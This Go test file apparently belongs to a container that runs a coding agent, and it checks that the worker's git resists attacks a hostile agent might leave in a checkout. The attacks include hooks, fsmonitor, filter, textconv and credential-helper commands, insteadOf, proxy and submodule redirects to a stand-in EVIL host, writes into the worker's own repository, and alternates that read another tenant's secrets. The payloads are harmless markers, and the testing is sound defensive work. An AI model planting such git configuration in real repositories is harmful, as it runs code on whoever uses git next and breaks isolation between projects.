package attack

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/webordinary/claude-code-container/tests/gitserver"
)

// gitAttack leaves something in the checkout for whoever uses git there next.
// MARKER, EVIL and REMOTE are replaced.
type gitAttack struct {
	name  string
	leave string // the agent does it
	use   string // what somebody does, unsuspecting, and is caught by
}

const evilConfig = `printf '[core]\n\tfsmonitor = "touch MARKER; false"\n' >> `

func gitAttacks() []gitAttack {
	return []gitAttack{
		{
			"hooks", `mkdir -p .git/hooks; printf '#!/bin/sh\ntouch MARKER\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
			cp .git/hooks/pre-commit .git/hooks/post-checkout; cp .git/hooks/pre-commit .git/hooks/pre-push; cp .git/hooks/pre-commit .git/hooks/reference-transaction`,
			`git add -A; git commit -m x`,
		},
		{
			"hooks path", `mkdir evil; printf '#!/bin/sh\ntouch MARKER\n' > evil/pre-commit; chmod +x evil/pre-commit; git config core.hooksPath evil`,
			`git add -A; git commit -m x`,
		},
		{
			"filter", `echo '* filter=evil' > .gitattributes; git config filter.evil.clean 'touch MARKER; cat'; git config filter.evil.smudge 'touch MARKER; cat'`,
			`git add -A`,
		},
		{"fsmonitor", evilConfig + `.git/config`, `git status`},
		{"include", evilConfig + `evil.config; git config include.path "$PWD/evil.config"`, `git status`},
		{"text conversion", `echo '* diff=evil' > .gitattributes; echo x >> README; git config diff.evil.textconv 'touch MARKER; cat'`, `git diff`},
		{"insteadOf", `git config protocol.ext.allow always; git config 'url.ext::sh -c touch%MARKER .insteadOf' REMOTE`, `git fetch REMOTE`},
		{"insteadOf host", `git config url.EVIL/.insteadOf http://`, `git fetch REMOTE`},
		{"proxy", `git config http.proxy EVIL`, `git fetch REMOTE`},
		{"credential helper", `git config credential.helper '!touch MARKER; :'`, `git fetch REMOTE`},
		{
			".git is a file", `mkdir evil; git init -q --bare evil/git; ` + evilConfig + `evil/git/config; rm -rf .git; echo "gitdir: $PWD/evil/git" > .git`,
			`git --work-tree=. status`,
		},
		{
			".git is a link", `mkdir evil; git init -q --bare evil/git; ` + evilConfig + `evil/git/config; rm -rf .git; ln -s evil/git .git`,
			`git --work-tree=. status`,
		},
		{"submodule", `git init -q sub; git -C sub -c user.name=x -c user.email=x@x commit -q --allow-empty -m x
			printf '[submodule "sub"]\n\tpath = sub\n\turl = EVIL\n' > .gitmodules; git config submodule.sub.url EVIL; git config submodule.sub.update '!touch MARKER; :'
			git add .gitmodules sub`, `git submodule update --force`},
		{"worktree configuration", `git config extensions.worktreeConfig true; ` + evilConfig + `.git/config.worktree`, `git status`},
		// Without a wall the agent reaches the worker's own repository.
		{"the worker's configuration", evilConfig + `../worker/git/config; touch ../worker/evil`, `git --git-dir=../worker/git --work-tree=. status`},
		{"the worker's hooks", `mkdir -p ../worker/git/hooks; printf '#!/bin/sh\ntouch MARKER\n' > ../worker/git/hooks/reference-transaction
			chmod +x ../worker/git/hooks/*`, `git --git-dir=../worker/git update-ref refs/heads/x HEAD`},
		{"the worker's attributes", `mkdir -p ../worker/git/info; echo '* filter=evil' > ../worker/git/info/attributes
			git config -f ../worker/git/config filter.evil.clean 'touch MARKER; cat'; echo x > new`, `git --git-dir=../worker/git --work-tree=. add new`},
	}
}

func (w *world) fill(script, name, repo string, e *evil) string {
	return strings.NewReplacer("%MARKER", "% "+w.marker(name), "MARKER", w.marker(name), "EVIL", e.url, "REMOTE", w.front.url(repo)).Replace(script)
}

// TestGitIsDeaf leaves in a checkout what makes git run a program or ask another
// host. The worker's git does neither; plain git does.
func TestGitIsDeaf(t *testing.T) { //nolint:tparallel // they share a worker
	t.Parallel()
	w := newWorld(t)
	evil := w.startEvil(nil)
	w.git.Create(t, "site.git", map[string]string{"README": "hello\n", ".gitignore": "node_modules/\n"})
	p := w.shell()
	for i, a := range gitAttacks() {
		t.Run(a.name, func(t *testing.T) {
			name := "git" + itoa(i)
			out := p.do(command{w.project("amelia"), "scott", w.front.url("site.git"), name, name, "echo " + name + " > change.txt\n" + w.fill(a.leave, name, "site.git", evil)})
			if out.CommitID == "" || out.ErrorCode != "build_failed" { // there is nothing to build
				t.Errorf("the command was not carried out: %+v", out)
			}
			if pushed := w.git.Bare("site.git"); !strings.Contains(readAll(filepath.Join(pushed, "refs", "heads", "thread-"+name)), out.CommitID) {
				t.Error("it was not pushed")
			}
			if marked(w.marker(name)) || len(evil.asked()) > 0 {
				t.Error("the worker was caught")
			}
			site := w.plainClone("site.git")
			if strings.Contains(a.leave, "../worker") {
				w.plainly(site, "mkdir ../worker && cp -r .git ../worker/git")
			}
			said := w.plainly(site, "git config user.name x; git config user.email x@x; set -e\n"+w.fill(a.leave, name, "site.git", evil))
			said += w.plainly(site, w.fill(a.use, name, "site.git", evil))
			if !marked(w.marker(name)) && len(evil.asked()) == 0 {
				t.Errorf("plain git is not caught, so nothing is shown:\n%s", said)
			}
		})
	}
}

func readAll(path string) string {
	b, err := os.ReadFile(path)
	if err != nil {
		return err.Error()
	}
	return string(b)
}

// TestGitGoesOn leaves in a checkout what keeps git from its work. The next
// command is carried out all the same.
func TestGitGoesOn(t *testing.T) { //nolint:tparallel // they share a worker
	t.Parallel()
	w := newWorld(t)
	w.git.Create(t, "site.git", map[string]string{"README": "hello\n", "dir/file": "x"})
	p := w.shell()
	for i, a := range []gitAttack{ // what they leave fails who uses it plainly
		{"lock", `touch ../worker/git/index.lock ../worker/git/HEAD.lock`, `git --git-dir=../worker/git --work-tree=. add -A`},
		{"a FIFO for a file", `rm README; mkfifo README`, `timeout 1 cat README`},
		{"a FIFO for a directory", `rm -r dir; mkfifo dir; mkfifo new`, `timeout 1 cat dir`},
		{"names like options", `touch -- -rf --help '--pathspec-from-file=x' ':(exclude)*' "$(printf 'a\nb')" 'a"b'; mkdir -- --exec; touch -- --exec/x`, `touch -- -rf; git rm -q --cached *`},
		{"no rights", `mkdir shut; touch shut/file; chmod 0 shut; chmod 0 README`, `git add -A`},
		{"a broken repository", `rm -rf .git/objects .git/HEAD; echo x > .git/index`, `git status`},
		{"a repository within", `git init -q inner; touch inner/file`, `git add -A`},
	} {
		t.Run(a.name, func(t *testing.T) {
			name := "on" + itoa(i)
			out := p.do(command{w.project("amelia"), "scott", w.front.url("site.git"), name, name, "echo " + name + " > change.txt\n" + a.leave})
			if out.ErrorCode != "build_failed" || out.CommitID == "" {
				t.Errorf("answer %+v", out)
			}
			out = p.do(command{w.project("amelia"), "scott", w.front.url("site.git"), name, name + "-next", "echo next > change.txt"})
			if out.ErrorCode != "build_failed" || out.CommitID == "" {
				t.Errorf("the next answer %+v", out)
			}
			site := w.plainClone("site.git")
			w.plainly(site, "mkdir ../worker && cp -r .git ../worker/git\n"+a.leave)
			if said := w.plainly(site, a.use); !strings.Contains(said, "exit status") {
				t.Errorf("plain git goes on, so nothing is shown: %s", said)
			}
		})
	}
}

// TestAlternates leaves in both repositories what makes git take another project's
// objects for its own. The worker's git does not see them; plain git does.
func TestAlternates(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.git.Create(t, "private.git", map[string]string{"secret.txt": w.secrets["victim"]})
	w.git.Create(t, "site.git", map[string]string{"README": "hello\n"})
	p := w.shell()
	p.do(command{w.project("amelia"), "scott", w.front.url("private.git"), "t", "c-1", "date > change.txt"})
	objects := filepath.Join(w.pair("amelia", "scott"), "worker", "git", "objects")
	script := "echo " + objects + " > .git/objects/info/alternates; mkdir -p ../worker/git/objects/info; echo " + objects + " > ../worker/git/objects/info/alternates; date > change.txt"
	if out := p.do(command{w.project("mallory"), "eve", w.front.url("site.git"), "t", "c-2", script}); out.CommitID == "" {
		t.Errorf("answer %+v", out)
	}
	blob := w.plainly(w.tmp(), "printf %s "+w.secrets["victim"]+" | git hash-object --stdin")
	const found = "it has it"
	look := "git -c safe.directory='*' --git-dir=" + filepath.Join(w.pair("mallory", "eve"), "worker", "git") + " cat-file -e " + strings.TrimSpace(blob) + " && echo " + found
	if said := w.plainly(w.tmp(), look); strings.Contains(said, found) {
		t.Error("the worker's repository has the other project's objects")
	}
	w.plainly(w.pair("mallory", "eve"), "cd site; "+script)
	if said := w.plainly(w.tmp(), look); !strings.Contains(said, found) {
		t.Errorf("plain git does not take them, so nothing is shown: %s", said)
	}
}

// TestWorkflows has an agent write what the remote would run. It is left out of the
// commit and named, unless the operator allows it.
func TestWorkflows(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.git.Create(t, "site.git", map[string]string{"README": "hello\n"})
	for _, allowed := range []bool{false, true} {
		p := w.shell("ALLOW_WORKFLOW_CHANGES=" + map[bool]string{true: "true", false: "false"}[allowed])
		id := map[bool]string{true: "allowed", false: "refused"}[allowed]
		out := p.do(command{w.project("amelia"), "scott", w.front.url("site.git"), id, id, "mkdir -p .github/workflows; echo 'on: push' > .github/workflows/evil.yml; date > change.txt"})
		pushed := gitserver.Git(t, w.git.Bare("site.git"), "ls-tree", "-r", "--name-only", "thread-"+id)
		if has := strings.Contains(pushed, "evil.yml"); has != allowed {
			t.Errorf("allowed %v, pushed %v: %s", allowed, has, pushed)
		}
		if !allowed && !strings.Contains(out.Summary+out.Error, "evil.yml") {
			t.Errorf("it is not named: %+v", out)
		}
		p.kill()
	}
}
